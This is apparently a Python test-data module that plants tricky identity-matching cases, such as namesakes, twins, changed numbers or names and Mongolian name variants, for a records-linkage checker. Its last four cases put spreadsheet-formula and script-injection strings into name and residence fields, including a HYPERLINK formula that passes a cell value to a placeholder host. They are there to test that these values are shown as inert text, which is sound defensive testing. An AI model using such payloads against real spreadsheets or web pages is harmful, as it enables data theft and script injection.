"""Who is who: namesakes, twins, brothers, changed and wrong numbers, changed and odd names."""

from __future__ import annotations

from datetime import date, timedelta

from data.generator.builder import Builder
from data.generator.id_numbers import id_number, mistyped
from data.generator.planted.registry import plant, received, sentenced


@plant("three 张伟 of one county, two received, one never: the namesakes must not stand in → H01 for one")
def three_namesakes(b: Builder) -> None:
    born = date(1986, 4, 9)
    for sequence, birth, registered in ((113, born, True), (235, date(1991, 11, 23), True), (317, born, False)):
        number = id_number("150105", birth, sequence)
        person = {"name": "张伟", "sex": "male", "birth": birth, "household": "150105", "id_no": number}
        handed = sentenced(b, "150105", date(2025, 5, 20), person=person)
        if registered:
            received(b, handed)


@plant("twins, numbers issued one after the other and two characters apart; one registered, one never → H01 for one")
def twins(b: Builder) -> None:
    born = date(1994, 7, 2)
    for county, names, sequence in (("150203", ("刘洋", "刘海"), 221), ("150102", ("赵大龙", "赵小龙"), 117)):
        for place, name in enumerate(names):
            number = id_number(county, born, sequence + 2 * place)
            person = {"name": name, "sex": "male", "birth": born, "household": county, "id_no": number}
            handed = sentenced(b, county, date(2025, 4, 22), person=person)
            if place == 0:
                received(b, handed)


@plant("brothers 王建国 and 王建民, one address; one registered, one never → H01 for one")
def brothers(b: Builder) -> None:
    home = "呼和浩特市土默特左旗察素齐阳光小区3号楼1单元402室"
    for name, born in (("王建国", date(1979, 2, 11)), ("王建民", date(1981, 8, 30))):
        person = {"name": name, "sex": "male", "birth": born, "household": "150121", "residence": home}
        handed = sentenced(b, "150121", date(2025, 6, 3), person=person)
        if name == "王建国":
            received(b, handed)


@plant("the co-defendant's number typed into the register: never merged with the co-defendant; review or received")
def co_defendants_number(b: Builder) -> None:
    for county in ("150104", "150202"):
        first = sentenced(b, county, date(2025, 3, 18))
        second = b.sentence(
            b.person(county),
            county,
            effective=date(2025, 3, 18),
            case_no=first.record.values["case_no"],
            penalty=("imprisonment", 12),
            probation=24,
        )
        received(b, first).record.raw["id_no"] = second.person.id_no
        first.unsure, first.also_accepted = True, ("received",)
        received(b, second)


@plant("number changed: the court has the old one, the register the new, the population register both → received")
def changed_number(b: Builder) -> None:
    for county, born in (("150102", date(1983, 5, 6)), ("150207", date(1990, 12, 1))):
        person = b.person(county, sex="male", birth=born, household=county)
        old = id_number(county, born, 501)
        handed = b.sentence(
            person, county, effective=date(2025, 2, 11), penalty=("imprisonment", 10), probation=24, id_no=old
        )
        person.former_id_no = old
        received(b, handed)


@plant("name changed: the court has the former name, the register the new one with 曾用名 → received")
def changed_name(b: Builder) -> None:
    for county, old, new in (("150203", "张小花", "张雅涵"), ("150105", "李二蛋", "李明泽")):
        sex = "female" if old == "张小花" else "male"
        handed = sentenced(b, county, date(2025, 2, 18), person={"name": new, "former_name": old, "sex": sex})
        handed.record.values["person_name"] = old
        received(b, handed)


@plant("same name, county, type and time, but no number and another day of birth: nobody can be sure → needs_review")
def unsure_namesake(b: Builder) -> None:
    cases = (
        ("150103", "郭秀英", date(1985, 3, 12), date(1985, 3, 21)),
        ("150221", "白玉兰", date(1978, 10, 1), date(1978, 1, 10)),
        ("150204", "高文斌", date(1992, 6, 8), date(1992, 8, 6)),
    )
    for county, name, birth, other in cases:
        sex = "male" if name == "高文斌" else "female"
        handed = sentenced(b, county, date(2025, 5, 27), person={"name": name, "sex": sex, "birth": birth})
        handed.record.raw["id_no"] = ""
        handed.unsure = True
        term = received(b, handed, date(2025, 6, 3), birth_date=other, case_no=None)
        term.record.raw["id_no"] = ""
        term.record.values["effective_date"] = None


@plant("same name and birth date, no number and no case number, in truth another person: needs_review, never a link")
def unsure_same_birth_date(b: Builder) -> None:
    for county, name, birth in (("150102", "孙丽娟", date(1988, 9, 14)), ("150203", "何志刚", date(1975, 1, 30))):
        same = {"name": name, "birth": birth, "sex": "female" if name == "孙丽娟" else "male"}
        handed = sentenced(b, county, date(2025, 4, 29), person=dict(same))
        handed.record.raw["id_no"] = ""
        handed.unsure = True
        # The other one was sentenced by a court outside the region, whose sentences are never delivered.
        other = sentenced(b, "610802", date(2025, 5, 6), person=dict(same))
        b.world.sentences.remove(other)
        other.county = county
        term = received(b, other, date(2025, 5, 12), county=county, case_no=None)
        term.record.raw["id_no"] = ""


@plant("number mistyped in the register by one slip, all else agrees → received, D02")
def mistyped_number(b: Builder) -> None:
    for county in ("150104", "150203", "150123"):
        term = received(b, sentenced(b, county, date(2025, 3, 25)))
        term.record.raw["id_no"] = mistyped(b.rng, term.person.id_no)


@plant("passport holders: no resident number, name, birth date and case agree → received")
def passport(b: Builder) -> None:
    for county, name in (("150102", "道尔吉巴图"), ("150223", "朝伦")):
        person = {"name": name, "sex": "male", "id_type": "passport", "id_no": f"E{b.rng.randrange(10**7, 10**8)}"}
        received(b, sentenced(b, county, date(2025, 3, 4), person=person))


@plant("Mongolian name with an interpunct, written three ways by three systems → received")
def interpunct(b: Builder) -> None:
    for county, name, other in (
        ("150223", "阿古拉·巴雅尔", "阿古拉．巴雅尔"),
        ("150121", "娜仁·额尔德尼", "娜仁额尔德尼"),
        ("150102", "照日格图·孟克", "照日格图•孟克"),
    ):
        handed = sentenced(b, county, date(2025, 4, 1), person={"name": name})
        received(b, handed).record.raw["person_name"] = other


@plant("a Mongolian name in two transliterations, number and case agree → received")
def transliteration(b: Builder) -> None:
    for county, name, other in (("150202", "巴特尔", "巴特儿"), ("150124", "其木格", "琪木格")):
        sex = "male" if name == "巴特尔" else "female"
        handed = sentenced(b, county, date(2025, 4, 1), person={"name": name, "sex": sex})
        received(b, handed).record.raw["person_name"] = other


@plant("case number missing in the register; number, type and effective date agree → received by dates")
def case_number_missing(b: Builder) -> None:
    for county in ("150102", "150204"):
        received(b, sentenced(b, county, date(2025, 1, 7)), case_no=None)


@plant("case number in the register differs by a digit; number, type and dates agree → received, H08")
def case_number_differs(b: Builder) -> None:
    handed = sentenced(b, "150105", date(2025, 1, 14))
    received(b, handed, case_no=handed.record.values["case_no"].replace("号", "9号"))


@plant("a person whose name looks like a spreadsheet formula, never registered → H01, shown as text")
def formula_name_never_received(b: Builder) -> None:
    home = '=HYPERLINK("http://example.invalid/?q="&A1,"详情")'
    sentenced(b, "150104", date(2025, 8, 12), person={"name": "=cmd()", "residence": home})


@plant("a person whose name looks like a spreadsheet formula, registered late → H02, shown as text")
def formula_name_late(b: Builder) -> None:
    home = "+1+1,@SUM(A1:A9)"
    handed = sentenced(b, "150222", date(2025, 7, 15), person={"name": "=cmd()", "residence": home, "sex": "female"})
    assert handed.deadline is not None
    received(b, handed, handed.deadline + timedelta(6))


@plant("a person whose name looks like a script, never registered → H01, shown as text")
def script_name_never_received(b: Builder) -> None:
    home = "<img src=x onerror=alert(2)>3号楼&lt;1单元"
    sentenced(b, "150207", date(2025, 8, 12), person={"name": "<script>alert(1)</script>", "residence": home})


@plant("a person whose name looks like a script, registered late → H02, shown as text")
def script_name_late(b: Builder) -> None:
    person = {"name": "<script>alert(1)</script>", "residence": "</td></tr></table><b>", "sex": "female"}
    handed = sentenced(b, "150202", date(2025, 7, 15), person=person)
    assert handed.deadline is not None
    received(b, handed, handed.deadline + timedelta(12))
